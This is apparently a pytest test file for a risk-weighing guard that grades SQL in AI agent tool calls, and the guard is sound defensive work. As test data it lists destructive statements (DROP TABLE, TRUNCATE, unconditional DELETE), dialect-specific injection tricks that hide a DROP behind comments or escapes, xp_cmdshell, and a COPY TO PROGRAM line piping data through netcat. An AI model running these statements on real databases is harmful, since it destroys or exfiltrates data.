"""What SQL does, statement by statement; and what only looks like SQL."""

from __future__ import annotations

import pytest

from sandgate.policy.risk import weigh_call
from sandgate.policy.risk.levels import Risk
from sandgate.policy.risk.sql import weigh_sql
from tests.policy.risk.samples import SQL, tool

READS = [
    "SELECT 1",
    "select * from notes where body = 'delete from x; drop table y'",
    "SELECT * FROM t -- DROP TABLE t",
    "SELECT * FROM t /* ; DELETE FROM t */ WHERE a = 1",
    "SELECT 'it''s', \"drop table\" FROM t",
    "SELECT * FROM deleted_users WHERE dropped IS NULL",
    "WITH recent AS (SELECT * FROM t) SELECT * FROM recent",
    "WITH RECURSIVE n(i) AS (VALUES (1) UNION SELECT i + 1 FROM n) SELECT i FROM n",
    "(SELECT a FROM t) UNION (SELECT b FROM u)",
    "SELECT * FROM t FOR UPDATE",
    "SELECT replace(a, 'x', 'y'), array_remove(b, 1), date_add(c, 2), json_set(d, '$.a', 1) FROM t",
    "SELECT @n := 1 INTO @x",
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (ANALYZE false) DELETE FROM users",
    "EXPLAIN ANALYZE SELECT * FROM users",
    "SHOW TABLES",
    "DESCRIBE users",
    "PRAGMA table_info(users)",
    "PRAGMA journal_mode",
    "COPY (SELECT * FROM t) TO STDOUT",
    "BEGIN; SELECT 1; COMMIT",
    "SET statement_timeout = 5000",
    "CREATE TEMP TABLE scratch AS SELECT 1",
    "VALUES (1), (2)",
    "FROM t SELECT a",
    "MATCH (n:Person) WHERE n.name = 'delete' RETURN n",
    "SELECT $$; DROP TABLE users; $$ AS text",
    "SELECT * FROM t WHERE note = E'it\\'s; DELETE FROM t'",
    r"SELECT 'it\'s; delete from x'",
]

CHANGES: list[tuple[str, Risk, str]] = [
    ("DELETE FROM users", "critical", "is DELETE without WHERE: all rows of users"),
    ("delete from app.users where id = 3", "high", "is DELETE of some rows of app.users"),
    ("DELETE FROM users WHERE 1=1", "critical", "always true"),
    ("DELETE FROM users WHERE id = 4 OR 'a' = 'a'", "critical", "always true"),
    ("DELETE FROM users WHERE (true)", "critical", "always true"),
    ("UPDATE users SET a = (SELECT 1 WHERE true)", "critical", "all rows of users"),
    ("UPDATE users SET a = 1 WHERE id = 2", "medium", "is UPDATE of some rows of users"),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT DO UPDATE SET a = 1", "medium", "is INSERT into t"),
    ("MERGE INTO t USING s ON t.i = s.i WHEN MATCHED THEN DELETE", "high", "is MERGE into t with DELETE"),
    ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "critical", "all rows of users"),
    ("WITH x AS (SELECT 1) DELETE FROM users WHERE id IN (SELECT * FROM x)", "high", "some rows of users"),
    ("EXPLAIN ANALYZE DELETE FROM users", "critical", "EXPLAIN ANALYZE"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE a SET b = 1 WHERE c", "medium", "EXPLAIN ANALYZE"),
    ("SELECT * INTO copy_of_users FROM users", "medium", "makes table copy_of_users"),
    ("SELECT * FROM users INTO OUTFILE '/srv/x.csv'", "high", "writes a file on the database server: /srv/x.csv"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "high", "calls pg_terminate_backend"),
    ("SELECT setval('s', 1)", "medium", "calls setval"),
    ("SELECT lo_unlink(5)", "high", "calls lo_unlink"),
    ("SELECT purge_accounts(4)", "medium", "by its name changes data"),
    ("SELECT 1; DROP TABLE users", "critical", "is DROP TABLE users"),
    ("nonsense; DROP TABLE users", "critical", "is DROP TABLE users"),
    ("SELECT 1 DELETE FROM users", "critical", "all rows of users"),
    ("CREATE TABLE a (b int); SELECT 1 DELETE FROM users", "critical", "all rows of users"),
    ("IF EXISTS (SELECT 1) DROP TABLE users", "critical", "is DROP TABLE users"),
    ("DROP INDEX i", "high", "is DROP INDEX i"),
    ("TRUNCATE TABLE users", "critical", "is TRUNCATE: all rows of users"),
    ("ALTER TABLE t ADD COLUMN x int", "high", "is ALTER TABLE t"),
    ("ALTER TABLE t DROP COLUMN x", "critical", "with DROP"),
    ("GRANT SELECT, DELETE ON t TO bob", "high", "is GRANT"),
    ("GRANT ALL ON t TO public", "critical", "is GRANT"),
    ("CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE)", "medium", "is CREATE TABLE t"),
    ("CREATE TRIGGER tr BEFORE DELETE ON t EXECUTE FUNCTION f()", "high", "is CREATE TRIGGER tr"),
    ("CREATE USER bob", "high", "is CREATE USER bob"),
    ("COPY t TO PROGRAM 'tar c | nc host 1'", "critical", "PROGRAM"),
    ("COPY t FROM '/srv/in.csv'", "medium", "is COPY into t"),
    ("PRAGMA foreign_keys = OFF", "medium", "is PRAGMA"),
    ("ATTACH DATABASE '/srv/other.db' AS o", "high", "/srv/other.db"),
    ("DO $$ BEGIN DELETE FROM users; END $$", "critical", "all rows of users"),
    ("EXEC xp_cmdshell 'dir'", "critical", "calls xp_cmdshell"),
    ("CALL nightly()", "medium", "calls the procedure nightly"),
    ("SET GLOBAL general_log = 1", "high", "is SET"),
    ("MATCH (n) DETACH DELETE n", "critical", "no condition"),
    ("MATCH (n {id: 1}) DELETE n", "high", "graph query with DELETE"),
    ("MATCH (n) WHERE n.id = 1 SET n.a = 2", "medium", "graph query with SET"),
    ("FROBNICATE TABLE t", "medium", "not known to only read"),
]

HIDDEN_IN_ONE_DIALECT = [
    ("SELECT 1 # 2; DROP TABLE users", "`#` begins a comment in MySQL only"),
    ("SELECT 1--1; DROP TABLE users", "`--` needs a blank in MySQL"),
    ("SELECT 1 /* /* */; DROP TABLE users; /* */ */", "comments nest in PostgreSQL only"),
    ("SELECT '\\'; DROP TABLE users; --'", "a backslash escapes in MySQL only"),
    ("SELECT 1 /*! ; DROP TABLE users */", "MySQL carries out what is in this comment"),
]


@pytest.mark.parametrize("text", READS)
def test_what_reads_is_low(text: str) -> None:
    weighed = weigh_call(SQL, {"sql": text})

    assert (weighed.risk, weighed.changes_data, weighed.reasons) == ("low", False, ())


@pytest.mark.parametrize(("text", "risk", "reason"), CHANGES)
def test_what_changes_says_what_it_changes(text: str, risk: Risk, reason: str) -> None:
    weighed = weigh_call(SQL, {"sql": text})

    assert (weighed.risk, weighed.changes_data) == (risk, True)
    assert any(reason in said and said.startswith("`sql` ") for said in weighed.reasons)


@pytest.mark.parametrize(("text", "why"), HIDDEN_IN_ONE_DIALECT)
def test_a_statement_that_only_some_databases_would_see_counts(text: str, why: str) -> None:
    assert weigh_call(SQL, {"sql": text}).risk == "critical", why


@pytest.mark.parametrize(
    "text",
    [
        "Drop table reservations for tonight",
        "delete from my calendar all meetings of May",
        "update me on the news",
        "select the best restaurant near here",
        "What does DROP TABLE users do?",
        "with whom did I speak yesterday",
        "create a summary of sales",
        "show me everything",
    ],
)
def test_a_sentence_that_begins_like_a_statement_is_not_sql(text: str) -> None:
    assert weigh_sql(text, "none") is None


def test_a_claim_to_read_does_not_make_a_drop_a_read() -> None:
    claimed = tool("query", "Runs a read-only SQL query.", "sql", readOnlyHint=True)

    assert weigh_call(claimed, {"sql": "DROP TABLE users"}).risk == "critical"


def test_a_select_is_low_though_the_tool_could_destroy() -> None:
    able = tool("execute_sql", "Executes any SQL.", "query", destructiveHint=True, readOnlyHint=False)

    assert weigh_call(able, {"query": "SELECT * FROM t"}).risk == "low"


def test_a_list_of_statements_is_as_bad_as_its_worst() -> None:
    weighed = weigh_call(SQL, {"sql": ["SELECT 1", "DROP TABLE users"]})

    assert weighed.risk == "critical"


def test_a_select_through_a_tool_that_deletes_is_not_low() -> None:
    assert weigh_call(tool("delete_rows", "", "sql"), {"sql": "SELECT id FROM t"}).risk == "high"


def test_sql_that_is_too_long_to_read_is_not_low() -> None:
    weighed = weigh_call(SQL, {"sql": "SELECT 1" + " " * 100_000 + "; DROP TABLE users"})

    assert weighed.risk == "medium"
    assert "to its end" in weighed.reasons[0]
